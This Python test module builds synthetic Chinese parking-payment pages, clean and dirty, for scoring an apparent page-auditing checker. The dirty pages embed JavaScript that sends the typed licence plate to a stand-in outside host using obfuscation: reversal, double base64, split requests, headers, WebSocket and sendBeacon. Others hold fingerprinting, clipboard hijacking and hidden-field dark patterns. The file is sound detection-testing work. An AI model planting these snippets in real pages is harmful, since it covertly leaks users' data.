"""Pages by families: one way of building or of offending, in several forms, clean and dirty.

Half of each family is held out: `score` counts those pages, and nobody looks at them while changing a rule.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

from tests.selfcheck.zoo import (
    keyboards,
    unseen,
    unseen_builders,
    unseen_channels,
    unseen_corners,
    unseen_counters,
    unseen_detours,
    unseen_devices,
    unseen_flows,
    unseen_gates,
    unseen_houses,
    unseen_kits,
    unseen_moments,
    unseen_nights,
    unseen_places,
    unseen_platforms,
    unseen_states,
    unseen_streets,
    unseen_styles,
    unseen_templates,
    unseen_tongues,
    unseen_trade,
    unseen_tricks,
    unseen_vendors,
    unseen_words,
)
from tests.selfcheck.zoo.animals import FEE, FOOT, FORM, PIXEL, PLACE, Animal

KEYS = "京津沪渝冀豫云辽黑湘皖鲁新苏浙赣鄂桂甘晋蒙陕吉闽贵粤青藏川宁琼"
LETTERS = "1234567890QWERTYUPASDFGHJKLZXCVBNM"
# In the order in which they were written, all after the rules that they were counted with first.
BATCHES = (
    unseen,
    unseen_styles,
    unseen_places,
    unseen_words,
    unseen_tricks,
    unseen_trade,
    unseen_moments,
    unseen_corners,
    unseen_houses,
    unseen_streets,
    unseen_templates,
    unseen_tongues,
    unseen_channels,
    unseen_gates,
    unseen_states,
    unseen_devices,
    unseen_flows,
    unseen_vendors,
    unseen_counters,
    unseen_detours,
    unseen_builders,
    unseen_nights,
    unseen_platforms,
    unseen_kits,
)
OPEN_FORM = "method=post action='/p/7F3K'"


@dataclass(frozen=True)
class Case:
    """One page of a family, with what must be found on it (nothing: it is clean)."""

    family: str
    animal: Animal
    held_out: bool
    batch: int = 0  # 1 and more: written after the rules that it was counted with first


def _text(text: str) -> Animal:
    return Animal("", text, before=f"<p>{text}</p>")


def _fee(text: str) -> Animal:
    return Animal("", text, fee=FEE.replace("停车约 2 小时", text))


def _script(zh: str, breaks: tuple[str, ...], script: str, before: str = "") -> Animal:
    return Animal("", zh, breaks, script=script, before=before)


def _keyboard(style: str, readonly: bool) -> Animal:
    keys = "".join(f"<button type=button>{k}</button>" for k in KEYS)
    letters = "".join(f"<button type=button>{k}</button>" for k in LETTERS)
    script = (
        f"const f=document.querySelector('#plate'),k=document.querySelector('#k');if(f){{f.onclick=()=>{{k.hidden=false;"
        f"k.innerHTML=f.value?`{letters}`:`{keys}`}};k.onclick=(e)=>{{if(e.target.tagName==='BUTTON'){{f.value+=e.target.textContent;"
        f"k.innerHTML=`{letters}`}}}}}}"
    )
    form = FORM.replace(
        "autocomplete=off", "autocomplete=off readonly" if readonly else "autocomplete=off inputmode=none"
    )
    return Animal(
        "", f"自绘键盘 {style}", form=form + f"<div id=k hidden style='{style}'></div>", script=script
    )


def _built(zh: str, wrap: str) -> Animal:
    """A form that a script builds; `wrap` is the script, FORM stands for its markup."""
    markup = FORM.format(path="/p/7F3K").replace("`", "")
    return Animal(
        "",
        zh,
        form="<div id=app></div>",
        script=f"const a=document.querySelector('#app');if(a){{{wrap.replace('FORM', markup)}}}",
    )


def clean_families() -> Iterator[tuple[str, list[Animal]]]:
    yield from keyboards.clean()
    yield "mentions", [
        _text(t)
        for t in (
            "请关注限高 2.1 米", "请勿向他人透露短信验证码", "缴费后可下载电子发票", "受业主授权管理", "缴费绝不以关注或注册为前提",
            "本页没有广告", "本市推广新能源汽车", "关注安全，减速慢行", "注册资本 500 万元", "如需登记月租车请到管理处",
        )
    ]  # fmt: skip
    yield "fee words", [
        _fee(t)
        for t in (
            "请车主缴费后 15 分钟内离场", "停车服务费 ¥8.00", "已使用停车券抵扣 2 元", "请在 15 分钟内离场", "停车时长 2 小时 10 分",
            "节假日同价，会员与非会员同价",
        )
    ]  # fmt: skip
    yield (
        "keyboards",
        [
            _keyboard(style, readonly)
            for style in (
                "position:fixed;left:0;right:0;bottom:0;height:260px;background:#ddd;z-index:5",
                "margin-top:8px",
            )
            for readonly in (True, False)
        ],
    )
    yield (
        "built late",
        [
            _built("2.5 秒后出现", "setTimeout(()=>{a.innerHTML=`FORM`},2500)"),
            _built("影子树", "a.attachShadow({mode:'open'}).innerHTML=`FORM`"),
            _built("封闭影子树", "a.attachShadow({mode:'closed'}).innerHTML=`FORM`"),
            _built(
                "同源内嵌页",
                "a.innerHTML='<iframe width=320 height=200></iframe>';a.firstChild.srcdoc=`FORM`.replace('<form','<form target=_top')",
            ),
        ],
    )
    sheet = "position:fixed;left:0;right:0;bottom:0;height:60%;background:#fff;z-index:4"
    yield (
        "sheets and masks",
        [
            Animal("", "底部费用面板", fee=f"<div style='{sheet}'>{FEE}</div>"),
            Animal(
                "",
                "底部费用面板，带关闭",
                fee=f"<div role=dialog style='{sheet}'>{FEE}<button type=button>关闭</button></div>",
            ),
            _script(
                "查询中遮罩",
                (),
                "const f=document.forms[0];if(f&&f.plate)f.onsubmit=()=>{document.body.insertAdjacentHTML('beforeend','<div style=\"position:fixed;inset:0;background:#0008;color:#fff\">查询中…</div>')}",
            ),
            Animal(
                "", "页头类名 banner", before="<header class=banner><a href='/p/7F3K'>测试广场</a></header>"
            ),
        ],
    )
    yield (
        "cashiers",
        [
            Animal("", host, pay=f"<meta http-equiv=refresh content='0;url=https://{host}/pay'>")
            for host in (
                "pay.lakala.com",
                "qr.shouqianba.com",
                "api.huifu.com",
                "qr.95516.com",
                "cashier.allinpay.com",
            )
        ],
    )
    yield "traditional", [
        Animal(
            "", "繁體", title="停車繳費", place=PLACE.replace("收款方", "收款方").replace("停车场", "停車場"),
            form=FORM.replace("车牌号", "車牌號").replace("查询停车费", "查詢停車費"),
            fee=FEE.replace("应缴停车费", "應繳停車費").replace("停车约 2 小时", "停車約 2 小時"),
            foot=FOOT.replace("收费标准", "收費標準").replace("小时", "小時").replace("隐私说明", "隱私說明").replace("服务电话", "服務電話"),
        )
    ]  # fmt: skip


def dirty_families() -> Iterator[tuple[str, list[Animal]]]:
    yield from keyboards.dirty()
    third = "https://t.collect-zoo.cn"
    on_input = "const p=document.querySelector('#plate');p&&p.addEventListener('input',()=>{const v=p.value;if(v.length<7)return;%s});"
    leak = ("P6", "P8b")
    yield (
        "disguised plate",
        [
            _script(
                "长连接",
                leak,
                on_input % "const s=new WebSocket('wss://t.collect-zoo.cn/s');s.onopen=()=>s.send(v)",
            ),
            _script(
                "倒写",
                leak,
                on_input % f"fetch('{third}/r?d='+encodeURIComponent([...v].reverse().join('')))",
            ),
            _script(
                "两次编码",
                leak,
                on_input % f"fetch('{third}/b?d='+btoa(btoa(unescape(encodeURIComponent(v)))))",
            ),
            _script(
                "分两次",
                leak,
                on_input % f"fetch('{third}/a?a='+v.slice(1,4));fetch('{third}/a?b='+v.slice(4))",
            ),
            _script(
                "请求头", leak, on_input % f"fetch('{third}/h',{{headers:{{'X-Car':encodeURIComponent(v)}}}})"
            ),
            _script(
                "离开时信标",
                leak,
                on_input % f"addEventListener('pagehide',()=>navigator.sendBeacon('{third}/e',v))",
            ),
        ],
    )
    yield (
        "fingerprints",
        [
            _script(
                "显卡",
                ("P9b",),
                "const g=document.createElement('canvas').getContext('webgl');if(g){g.getParameter(37446)}else{document.createElement('canvas').toDataURL()}",
            ),
            _script(
                "字体",
                ("P9b",),
                "const c=document.createElement('canvas').getContext('2d');for(let i=0;i<60;i++)c.measureText('m'+i)",
            ),
            _script("本机地址", ("P9b",), "new RTCPeerConnection()"),
            _script(
                "设备属性",
                ("P9b",),
                "[navigator.plugins,navigator.mimeTypes,navigator.hardwareConcurrency,navigator.deviceMemory,navigator.doNotTrack,screen.colorDepth]",
            ),
            _script(
                "裸监听",
                ("P9b",),
                "for(const n of['mousemove','touchmove','scroll','keydown'])addEventListener(n,()=>{});navigator.sendBeacon('/r','x')",
            ),
            _script(
                "离屏画布",
                ("P9b",),
                "const o=new OffscreenCanvas(99,99);o.getContext('2d').fillText('x',1,9);o.convertToBlob()",
            ),
        ],
    )
    yield (
        "permissions",
        [
            _script("写剪贴板", ("P9a",), "document.execCommand('copy')"),
            _script(
                "写剪贴板接口",
                ("P9a",),
                "navigator.clipboard&&navigator.clipboard.writeText('红包口令').catch(()=>{})",
            ),
            _script("传感器属性", ("P9a",), "window.ondevicemotion=()=>{}"),
            _script("电池", ("P9a",), "navigator.getBattery&&navigator.getBattery()"),
        ],
    )
    popup = "document.body.insertAdjacentHTML('beforeend','<div style=\"position:fixed;inset:0;background:#fff;z-index:9\"><p>加入会员立减 5 元</p><button type=button>关闭</button></div>')"
    both = ("P5a", "P5c")
    yield (
        "late prompts",
        [
            _script("4 秒后", both, f"setTimeout(()=>{{{popup}}},4000)"),
            _script("首次触摸", both, f"addEventListener('touchstart',()=>{{{popup}}},{{once:true}})"),
            _script(
                "首次滚动",
                both,
                f"addEventListener('scroll',()=>{{{popup}}},{{once:true}})",
                before="<p style='height:1600px'>须知</p>",
            ),
            _script(
                "点车牌框",
                both,
                f"const p=document.querySelector('#plate');p&&p.addEventListener('focus',()=>{{{popup}}},{{once:true}})",
            ),
            _script(
                "第二次打开", both, f"if(document.cookie.includes('n=1')){{{popup}}}document.cookie='n=1'"
            ),
        ],
    )
    yield (
        "hidden places",
        [
            Animal(
                "",
                "影子树里的手机号",
                ("P3",),
                before="<div id=s></div>",
                script="document.querySelector('#s').attachShadow({mode:'closed'}).innerHTML='<label>手机号 <input name=mobile></label>'",
            ),
            Animal(
                "",
                "内嵌页里的手机号",
                ("P3",),
                before='<iframe srcdoc="<label>手机号 <input name=mobile></label>"></iframe>',
            ),
            Animal(
                "",
                "可编辑块",
                ("P3",),
                before="<p>手机号</p><div contenteditable style='border:1px solid;height:30px'></div>",
            ),
            Animal(
                "",
                "伪元素",
                ("P5a",),
                head="<style>.x::before{content:'请先关注公众号'}</style>",
                before="<p class=x></p>",
            ),
            Animal("", "零宽字符", ("P5a",), before="<p>请先关\u200b注公\u200b众号再缴费</p>"),
            Animal(
                "",
                "公众号链接",
                ("P5a",),
                before="<a href='https://mp.weixin.qq.com/mp/profile_ext?action=home'>更多服务</a>",
            ),
            Animal(
                "",
                "角色复选框",
                ("P5b",),
                fee=FEE + "<div role=checkbox aria-checked=true tabindex=0>加购洗车服务</div>",
            ),
        ],
    )
    yield (
        "kept",
        [
            Animal("", "12 小时 Cookie", ("P7a",), headers={"Set-Cookie": "v=1; Max-Age=43200"}),
            Animal("", "片段里的车牌", ("P8a",), script=on_input % "location.hash='fee?plate='+v"),
            Animal("", "改写地址", ("P8a",), script=on_input % "history.pushState({},'','?plate='+v)"),
            _script("文件系统", ("P7a",), "navigator.storage.getDirectory()"),
        ],
    )
    yield "answers", [
        replace(_fee(t), breaks=("P11b",))
        for t in (
            "进 08:12（东门），B2 层 117 位", "近 30 天停车 6 次", "车主：王** 138****0000", "入场时间 2026-11-20 08:12",
        )
    ] + [Animal("", "入场照片", ("P11b",), fee=FEE + f"<img alt=入场照片 width=300 height=160 src='{PIXEL}'>")]  # fmt: skip
    yield (
        "blocked",
        [
            Animal("", "查费后强制关注", ("P5a",), fee="<h2>请先关注公众号后查看费用</h2>"),
            Animal(
                "",
                "支付按钮灰显",
                ("P5a",),
                fee=FEE.replace("<button>", "<p>登录后才能缴费</p><button disabled>"),
            ),
            Animal(
                "",
                "跳到小程序",
                ("P5d",),
                fee="<p>¥8.00</p><a href='weixin://dl/business/?appid=wx1&path=pages/pay/login'>支付 ¥8.00</a>",
            ),
        ],
    )


def cases() -> list[Case]:
    found = []
    for kind, families in (("clean", clean_families), ("dirty", dirty_families)):
        found += list(_numbered(kind, families))
    for batch, pages in enumerate(BATCHES, 1):
        kinds = [("clean", row) for row in pages.clean()] + [("dirty", row) for row in pages.dirty()]
        for place, (kind, (name, animals)) in enumerate(kinds):
            family = f"{kind}: {name}"
            found += [
                Case(family, replace(animal, name=f"unseen{batch}n{place}x{number}"), number % 2 == 1, batch)
                for number, animal in enumerate(animals)
            ]
    return found


def _numbered(kind: str, families: Callable[[], Iterator[tuple[str, list[Animal]]]]) -> Iterator[Case]:
    for place, (family, animals) in enumerate(families()):
        for number, animal in enumerate(animals):
            name = f"{kind}{place}x{number}"
            yield Case(f"{kind}: {family}", replace(animal, name=name), held_out=number % 2 == 1)
